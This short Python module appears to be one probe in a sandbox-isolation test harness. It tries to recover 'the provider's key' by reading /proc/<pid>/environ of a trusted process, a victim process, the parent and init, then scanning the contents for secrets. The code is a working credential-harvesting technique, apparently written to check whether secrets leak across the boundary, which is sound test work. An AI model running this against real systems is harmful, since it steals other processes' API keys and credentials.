"""Wants the provider's key from the environment of the trusted process, the zygote or the init. Success: it comes back."""

import os

from outside import TRUSTED, VICTIM, attempt, read, secrets_in


def method(problem):
    def look():
        held = b""
        for process in (TRUSTED, VICTIM, os.getppid(), 1):
            try:
                held += read(f"/proc/{process}/environ")
            except OSError:
                continue
        return secrets_in(held)

    return attempt(problem, look)
